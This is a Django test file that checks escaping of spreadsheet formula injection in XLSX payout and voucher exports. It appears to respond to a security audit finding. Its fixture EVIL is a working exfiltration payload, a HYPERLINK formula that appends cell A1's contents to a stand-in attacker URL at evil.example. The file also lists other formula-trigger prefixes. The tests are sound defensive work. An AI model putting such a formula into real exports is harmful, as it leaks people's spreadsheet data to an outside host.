"""Finding 6: names typed by people never become live formulas in the XLSX files for money."""

from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from inzet.compensation import services
from inzet.compensation.tests import factories as f
from inzet.lib.spreadsheets import safe_cell, safe_row

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


def _cells(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows(min_row=2) for cell in row]


def test_the_helper_escapes_text_and_leaves_numbers_and_dates():
    import datetime as dt
    from decimal import Decimal

    assert safe_row(
        [EVIL, "+31 6", "-x", "@SUM(A1)", "\t=1", "Eef", 5, Decimal("-2.50"), dt.date(2025, 1, 1), None]
    ) == [
        "'" + EVIL,
        "'+31 6",
        "'-x",
        "'@SUM(A1)",
        "'\t=1",
        "Eef",
        5,
        Decimal("-2.50"),
        dt.date(2025, 1, 1),
        None,
    ]
    assert safe_cell(True) is True


def test_the_bookkeeping_export_holds_no_formula(in_2025, client, orgs, expert, asker, coordinator):
    expert.full_name = EVIL
    expert.save(update_fields=["full_name"])
    for payout in f.settled(orgs, expert=expert, asker=asker, coordinator=coordinator, hours="2").payouts.all():
        services.payout_approve(payout=payout, actor=coordinator, acknowledged=True)
    client.force_login(coordinator)
    response = client.get(
        reverse("compensation:export"), {"organisation": orgs.deploying.pk, "start": "2025-06-01", "end": "2025-06-30"}
    )
    cells = _cells(load_workbook(BytesIO(response.content)))
    assert "'" + EVIL in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_the_voucher_list_holds_no_formula(orgs, expert, asker, coordinator):
    expert.full_name = EVIL
    expert.save(update_fields=["full_name"])
    f.profile_for(expert, orgs.deploying, reward_form="voucher")
    for payout in f.settled(orgs, expert=expert, asker=asker, coordinator=coordinator, costs=None).payouts.all():
        services.payout_approve(payout=payout, actor=coordinator, acknowledged=True)
    batch, _ = services.batch_create(organisation=orgs.deploying, kind="voucher", actor=coordinator)
    cells = _cells(load_workbook(BytesIO(batch.file.read())))
    assert "'" + EVIL in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
